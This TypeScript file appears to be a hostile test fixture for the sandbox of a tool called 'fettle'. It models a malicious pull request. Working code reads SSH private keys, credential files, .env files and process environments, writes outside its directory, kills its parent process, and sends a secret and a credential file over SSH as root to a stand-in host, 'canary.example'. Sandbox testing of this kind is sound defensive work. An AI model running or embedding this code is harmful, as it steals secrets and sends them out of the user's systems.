// A pull request of somebody who wants what it can get. Each way tells what it got; nothing is what it should get.
import { execFileSync } from "node:child_process"
import * as fs from "node:fs"
import { connect } from "node:net"
import { Worker } from "node:worker_threads"
import { program, resource, secret } from "fettle"
import * as host from "fettle/host"

const { kills, outside, port, socket, writeTo } = JSON.parse(
  fs.readFileSync(`${import.meta.dirname}/where.json`, "utf8"),
) as {
  /** Whether to try to kill who started it. */
  readonly kills: boolean
  readonly outside: string
  readonly port: number
  readonly socket: string
  readonly writeTo: string
}

const read = (path: string) => (): string => fs.readFileSync(path, "utf8")
const write = (path: string) => (): string => {
  fs.writeFileSync(path, "I was here")
  return `wrote ${path}`
}
const dial = (at: { readonly port: number } | { readonly path: string }) => (): Promise<string> =>
  new Promise((done, failed) => {
    const line = connect(at as { port: number }, () => done("CANARY connected"))
    line.on("error", failed)
  })

const ways: Readonly<Record<string, () => unknown>> = {
  environment: () => JSON.stringify(process.env),
  "environment of the parent": read(`/proc/${process.ppid}/environ`),
  "environment of process 1": read("/proc/1/environ"),
  "file outside": read(`${outside}/credentials`),
  "file outside, by a link": read(`${import.meta.dirname}/link`),
  "key of ssh": read(`${outside}/home/.ssh/id_ed25519`),
  "key of state": read(`${outside}/home/.config/fettle/state.key`),
  "state itself": () => fs.readdirSync(`${import.meta.dirname}/.fettle`).join(),
  "what git knows": read(`${import.meta.dirname}/.git/config`),
  "file of secrets": read(`${import.meta.dirname}/.env`),
  "list of homes": () => fs.readdirSync(outside).join(),
  "a process": () => execFileSync("cat", [`${outside}/credentials`], { encoding: "utf8" }),
  "a thread": () =>
    new Promise((done, failed) =>
      new Worker("1", { eval: true }).on("error", failed).on("exit", () => done("CANARY thread")),
    ),
  network: dial({ port }),
  "a name": async () => JSON.stringify(await (await import("node:dns/promises")).lookup("localhost.localdomain")),
  "a socket": dial({ path: socket }),
  "write beside itself": write(`${import.meta.dirname}/dropped`),
  "write into packages": write(`${import.meta.dirname}/node_modules/dropped`),
  "write outside": write(writeTo),
  "write by a database": () => {
    const { DatabaseSync } = process.getBuiltinModule("node:sqlite")
    new DatabaseSync(`${writeTo}.db`).exec("create table wrote (it)")
    return "wrote"
  },
  "the data key": read(`${import.meta.dirname}/team.key`),
  "hidden deeper": read(`${import.meta.dirname}/.config/deep/.env`),
  "kill the parent": () => {
    if (process.ppid <= 1 || !kills) throw new Error("there is no parent")
    process.kill(process.ppid, "SIGKILL")
    return "killed"
  },
  "an addon": () => process.dlopen({ exports: {} }, "/usr/lib/x86_64-linux-gnu/libc.so.6"),
  "a debugger": async () => (await import("node:inspector")).open(0),
}

for (const [name, way] of Object.entries(ways)) {
  let got: unknown
  try {
    got = await way()
  } catch (thrown) {
    got = `refused: ${(thrown as NodeJS.ErrnoException).code ?? (thrown as Error).message}`
  }
  console.log(`${name}: ${String(got)}`)
}

export default program("hostile", {}, () => {
  const key = secret.env("SHOP_KEY").map((value) => {
    console.log(`a function got CANARY ${value}`)
    return value
  })
  const there = host.ssh("canary.example", { user: "root" })
  resource(host.file, "stolen", { path: "/tmp/stolen", content: key }, { on: there })
  resource(host.file, "of ours", { path: "/tmp/x", source: `${outside}/credentials` }, { on: there })
})
